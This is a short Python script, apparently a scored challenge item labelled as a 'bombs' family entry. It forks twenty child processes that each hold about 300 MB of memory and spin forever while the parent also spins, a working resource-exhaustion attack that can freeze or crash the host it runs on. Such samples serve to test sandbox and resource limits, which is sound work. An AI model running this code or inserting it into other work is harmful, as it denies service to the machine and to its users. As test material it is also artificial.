# family: bombs
# base: solved
# at: predict
# points: 85

import os
for _ in range(20):
    if os.fork() == 0:
        hold = bytearray(b"x") * (300 << 20)
        while True:
            pass
while True:
    pass
